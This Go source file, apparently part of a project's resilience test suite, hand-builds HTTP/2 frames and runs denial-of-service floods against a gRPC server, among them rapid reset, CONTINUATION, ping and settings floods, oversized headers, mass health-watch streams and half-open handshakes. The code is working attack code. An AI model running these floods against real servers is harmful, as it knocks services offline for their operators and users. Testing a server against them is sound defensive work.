//go:build linux

package hostile

import (
	"context"
	"encoding/binary"
	"io"
	"net"
	"time"
)

// Frames of HTTP/2, made by hand: no client library would send what these attacks
// need.
const (
	h2Preface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

	frameData, frameHeaders, frameReset, frameSettings, framePing, frameGoAway, frameWindow, frameContinuation = 0, 1, 3, 4, 6, 7, 8, 9

	flagEndStream, flagEndHeaders = 1, 4

	settingWindow = 4
)

func appendFrame(b []byte, kind, flags byte, stream uint32, payload []byte) []byte {
	b = append(b, byte(len(payload)>>16), byte(len(payload)>>8), byte(len(payload)), kind, flags)
	b = binary.BigEndian.AppendUint32(b, stream)
	return append(b, payload...)
}

// headerBlock encodes fields as literals that enter no table.
func headerBlock(fields ...string) (b []byte) {
	for i := 0; i < len(fields); i += 2 {
		b = append(b, 0)
		b = appendLiteral(b, fields[i])
		b = appendLiteral(b, fields[i+1])
	}
	return b
}

func appendLiteral(b []byte, s string) []byte {
	n := len(s)
	if n < 127 {
		return append(append(b, byte(n)), s...)
	}
	b = append(b, 127)
	for n -= 127; n >= 128; n >>= 7 {
		b = append(b, byte(n)|128)
	}
	return append(append(b, byte(n)), s...)
}

// callOf are the headers of a gRPC call.
func callOf(method string, more ...string) []byte {
	return headerBlock(append([]string{
		":method", "POST", ":scheme", "http", ":path", method, ":authority", "localhost", "content-type", "application/grpc", "te", "trailers",
	}, more...)...)
}

// dial opens a connection that is closed at the end of the attack; nil if there is
// none to be had.
func (a *assault) dial(address string) net.Conn {
	dialer := net.Dialer{Timeout: time.Second}
	c, err := dialer.DialContext(a.ctx, "tcp", address)
	if err != nil {
		a.wait(10 * time.Millisecond)
		return nil
	}
	context.AfterFunc(a.ctx, func() { c.Close() })
	return c
}

// wait waits for so long, or until the attack is over.
func (a *assault) wait(d time.Duration) {
	select {
	case <-time.After(d):
	case <-a.ctx.Done():
	}
}

// dialHTTP2 opens a connection that has introduced itself, and whose answers are
// read and thrown away.
func (a *assault) dialHTTP2(address string) net.Conn {
	c := a.dial(address)
	if c == nil {
		return nil
	}
	if _, err := c.Write(appendFrame([]byte(h2Preface), frameSettings, 0, 0, nil)); err != nil {
		c.Close()
		return nil
	}
	go func() {
		_, _ = io.Copy(io.Discard, c)
		c.Close()
	}()
	return c
}

// attackers is how many connections flood a port with frames.
const attackers = 8

// floodFrames writes what next makes on several connections, and anew on new ones
// when those are closed.
func (a *assault) floodFrames(address string, fresh func() (next func() []byte)) {
	a.times(attackers, func(int) {
		for !a.over() {
			c := a.dialHTTP2(address)
			if c == nil {
				continue
			}
			next := fresh()
			for {
				if _, err := c.Write(next()); err != nil {
					break
				}
			}
		}
	})
}

// rapidReset opens calls and gives them up at once.
func rapidReset(a *assault) {
	headers := callOf("/pontoon.host.v1.Host/Status")
	a.floodFrames(a.leader.client, func() func() []byte {
		stream := uint32(1)
		return func() (b []byte) {
			for range 100 {
				b = appendFrame(b, frameHeaders, flagEndHeaders, stream, headers)
				b = appendFrame(b, frameReset, 0, stream, []byte{0, 0, 0, 8})
				stream += 2
			}
			return b
		}
	})
}

// pings asks for an answer again and again.
func pings(a *assault) {
	a.floodFrames(a.leader.client, func() func() []byte {
		var b []byte
		for range 100 {
			b = appendFrame(b, framePing, 0, 0, make([]byte, 8))
		}
		return func() []byte { return b }
	})
}

// idleFrames sends frames of all kinds that ask for nothing and bring nothing.
func idleFrames(a *assault) {
	kinds := []func(b []byte) []byte{
		func(b []byte) []byte { return appendFrame(b, frameWindow, 0, 0, []byte{0, 0, 0, 1}) },
		func(b []byte) []byte { return appendFrame(b, frameData, 0, 1, nil) },
		func(b []byte) []byte { return appendFrame(b, 0xbb, 0, 0, nil) },
		func(b []byte) []byte { return appendFrame(b, frameGoAway, 0, 0, make([]byte, 8)) },
	}
	next := 0
	a.floodFrames(a.leader.client, func() func() []byte {
		a.mu.Lock()
		kind := kinds[next%len(kinds)]
		next++
		a.mu.Unlock()
		b := appendFrame(nil, frameHeaders, flagEndHeaders, 1, callOf("/pontoon.host.v1.Host/Proposals"))
		return func() []byte {
			now := b
			for b = nil; len(b) < 32<<10; {
				b = kind(b)
			}
			return now
		}
	})
}

// settings changes what has to be acknowledged again and again.
func settings(a *assault) {
	a.floodFrames(a.leader.client, func() func() []byte {
		var b []byte
		for i := range 100 {
			b = appendFrame(b, frameSettings, 0, 0, []byte{0, settingWindow, 0, 0, byte(i), 0})
		}
		return func() []byte { return b }
	})
}

// continuations begins a call whose headers never end.
func continuations(a *assault) {
	part := headerBlock("x-part", string(make([]byte, 8<<10)))
	a.floodFrames(a.leader.client, func() func() []byte {
		begun := false
		return func() (b []byte) {
			if !begun {
				begun = true
				return appendFrame(nil, frameHeaders, 0, 1, callOf("/pontoon.host.v1.Host/Status"))
			}
			return appendFrame(nil, frameContinuation, 0, 1, part)
		}
	})
}

// largeHeaders sends calls whose headers are larger than is allowed.
func largeHeaders(a *assault) {
	var block []byte
	for range 8 {
		block = append(block, headerBlock("x-large", string(make([]byte, 8<<10)))...)
	}
	headers := callOf("/pontoon.host.v1.Host/Status")
	a.floodFrames(a.leader.client, func() func() []byte {
		stream := uint32(1)
		return func() []byte {
			b := appendFrame(nil, frameHeaders, flagEndStream, stream, headers)
			for rest := block; len(rest) > 0; {
				n := min(len(rest), 16<<10)
				end := byte(0)
				if n == len(rest) {
					end = flagEndHeaders
				}
				b = appendFrame(b, frameContinuation, end, stream, rest[:n])
				rest = rest[n:]
			}
			stream += 2
			return b
		}
	})
}

// watchesPerConnection is below what a connection may have under way.
const watchesPerConnection = 1000

// healthWatches begins calls that each hear of every change of the host's health.
func healthWatches(a *assault) {
	watch := callOf("/grpc.health.v1.Health/Watch")
	for range of(20_000) / watchesPerConnection {
		c := a.dialHTTP2(a.leader.client)
		if c == nil {
			continue
		}
		var b []byte
		for i := range uint32(watchesPerConnection) {
			b = appendFrame(b, frameHeaders, flagEndHeaders, 2*i+1, watch)
			b = appendFrame(b, frameData, flagEndStream, 2*i+1, make([]byte, 5))
		}
		if _, err := c.Write(b); err != nil {
			a.Logf("a connection with watches: %v", err)
		}
	}
	<-a.ctx.Done()
}

// halfHandshakes opens connections that say no more than the beginning of what
// introduces HTTP/2, or nothing after it.
func halfHandshakes(a *assault) {
	a.slowly(a.leader.client, of(400), "")
	for _, begin := range []string{h2Preface[:10], h2Preface, h2Preface + "\x00\x00\x06\x04"} {
		a.times(of(200), func(int) {
			for !a.over() {
				c := a.dial(a.leader.client)
				if c == nil {
					continue
				}
				if _, err := c.Write([]byte(begin)); err == nil {
					_, _ = io.Copy(io.Discard, c)
				}
			}
		})
	}
}
